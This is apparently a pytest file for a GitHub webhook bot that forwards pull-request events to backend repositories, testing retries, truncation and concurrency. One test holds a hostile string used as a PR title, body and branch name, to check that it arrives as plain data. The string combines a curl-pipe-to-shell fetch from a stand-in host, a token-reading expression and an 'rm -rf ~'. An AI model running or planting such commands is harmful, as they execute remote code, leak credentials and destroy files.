"""Dispatches: which backends get an event, and that the webhook is answered first."""

from __future__ import annotations

import asyncio
import json

import pytest

from bot.app import make_worker
from bot.core.clock import SystemClock
from tests import harness
from tests.flows.scenarios import (
    MOST_CHARACTERS,
    dispatched_to,
    opening_body,
    states,
)
from tests.harness import L1, L2, L3, L4, UPSTREAM
from tests.process import PATIENCE

pytestmark = pytest.mark.logic


async def test_u5_a_report_that_comes_before_github_has_answered_is_expected(bot, github):
    answers = []

    async def report_at_once(dispatch):
        if dispatch.repo.full_name == L2:
            answers.append(await bot.report(dispatch, status="in_progress"))

    github.on_dispatch = report_at_once
    github.faults.add(method="POST", path=rf"{L2}/dispatches$", when="after", status=502, times=1)
    await github.open_pull(UPSTREAM)
    await bot.settle(horizon=60)
    assert [status for status, _ in answers] == [200]
    assert await states(bot, L2) == ["sent"]
    assert len(dispatched_to(github, L2)) == 1


async def test_u6_one_backend_that_fails_holds_no_other_up_and_a_redelivery_repeats_nothing(bot, github):
    github.faults.add(method="POST", path=rf"{L2}/dispatches$", status=502, times=3)
    await github.open_pull(UPSTREAM)
    await bot.settle()
    assert sorted(dispatched_to(github)) == sorted([L1, L3, L4])
    (opened,) = [delivery for delivery in github.deliveries if delivery.event == "pull_request"]
    await github.redeliver(opened)
    await bot.settle(horizon=120)
    assert sorted(dispatched_to(github)) == sorted([L1, L2, L3, L4])


@pytest.mark.parametrize("letter", ["x", "\U0001f680", '"'], ids=["ascii", "emoji", "quotes"])
async def test_u7_the_longest_description_reaches_every_backend(bot, github, letter):
    pull = await github.open_pull(UPSTREAM, body=letter * 65_536)
    await bot.settle()
    assert sorted(dispatched_to(github)) == sorted([L1, L2, L3, L4])
    for dispatch in github.dispatches:
        assert len(dispatch.client_payload) <= 10
        assert len(json.dumps(dispatch.client_payload)) <= MOST_CHARACTERS
        inner = dispatch.client_payload["payload"]
        assert "pull_request.body" in inner["truncated"]
        assert inner["pull_request"]["head"]["sha"] == pull.head_sha


async def test_u8_shell_and_expression_syntax_of_an_author_arrives_as_data(bot, github):
    hostile = "$(curl evil.example|sh)`id`\"; ${{ github.token }} ' && rm -rf ~"
    await github.open_pull(UPSTREAM, title=hostile, body=hostile)
    body = json.loads(json.dumps(github.deliveries[0].payload))
    body["pull_request"]["head"]["ref"] = hostile
    await bot.send("pull_request", body, guid="hostile")
    await bot.settle()
    sent = [one for one in github.dispatches if one.client_payload["delivery_id"] == "hostile"]
    assert {one.repo.full_name for one in sent} == {L1, L2, L3, L4}
    for dispatch in sent:
        assert dispatch.event_type == "pull_request"
        pull = dispatch.client_payload["payload"]["pull_request"]
        assert (pull["title"], pull["body"], pull["head"]["ref"]) == (hostile, hostile, hostile)


async def test_u18_the_webhook_is_answered_before_github_is_asked_anything(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    before = len(github.calls)
    await github.push_commit(pull)
    (answer,) = [one.status_code for one in github.deliveries if one.action == "synchronize"]
    assert answer == 202
    assert len(github.calls) == before


TOGETHER, HANGS = (
    101.0,
    102.0,
)  # seconds that GitHub seems to take: until ten are asked for, until all have been


class Held(SystemClock):
    """The machine's clock; who waits for such a time waits for an event instead."""

    def __init__(self):
        self.asked, self.together, self.everybody = 0, asyncio.Event(), asyncio.Event()

    async def sleep(self, seconds):
        self.asked += seconds == TOGETHER
        if self.asked >= 10:
            self.together.set()
        held = {TOGETHER: self.together, HANGS: self.everybody}.get(seconds)
        await (held.wait() if held else super().sleep(seconds))


async def test_twenty_dispatches_leave_together_though_one_backend_hangs(app_key, tmp_path, issuer):
    """GitHub answers none before ten are asked for, and those of one backend when all others have arrived."""
    names = [f"org-{number}/backend" for number in range(20)]
    (tmp_path / "allowlist.yml").write_text("L2: [slow/backend, {}]".format(", ".join(names)))
    clock = Held()
    github = harness.SimulatedGitHub(clock=clock)
    await github.start()
    app = github.register_app(webhook_url=None, webhook_secret=harness.SECRET, private_key_pem=app_key)
    for name in (UPSTREAM, "slow/backend", *names):
        github.add_repo(name)
    settings = harness.make_settings(github=github, issuer=issuer, app=app, folder=tmp_path)
    async with harness.running(settings, github=github, issuer=issuer, app=app, clock=clock) as bot:

        async def arrived(_dispatch):
            if set(dispatched_to(github)) >= set(names):
                clock.everybody.set()

        github.on_dispatch = arrived
        github.faults.add(method="POST", path="^/repos/slow/backend/", status=None, delay=HANGS, times=100)
        github.faults.add(method="POST", path="/dispatches$", status=None, delay=TOGETHER, times=100)
        worker = make_worker(bot.context)
        working = asyncio.create_task(worker.run())
        try:
            await bot.send("pull_request", opening_body(github))
            await asyncio.wait_for(clock.everybody.wait(), PATIENCE)
        finally:
            clock.together.set()
            clock.everybody.set()
            worker.stop()
            await working
            await github.stop()
